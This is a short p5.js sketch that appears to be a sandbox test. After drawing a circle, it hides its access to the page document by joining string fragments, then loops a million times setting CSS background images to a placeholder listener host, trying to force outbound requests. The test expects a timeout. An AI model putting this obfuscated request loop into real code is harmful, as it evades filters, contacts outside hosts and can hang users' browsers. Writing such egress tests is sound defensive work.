// tries: to have the browser tell of pictures of a style that are not let in
// expect: timeout
const hidden = (...parts) => parts.join("");
function setup() {
  createCanvas(600, 600, WEBGL);
  noLoop();
}

function draw() {
  background("#faf5ea");
  brush.noStroke();
  brush.fill("#d75f4c", 180);
  brush.circle(0, 0, 120, 0.3);
  const { body } = window[hidden("docu", "ment")];
  for (let i = 0; i < 1e6; i++) {
    body.style.background = `url(http://@LISTENER@/${i})`;
    body.offsetWidth;
  }
}
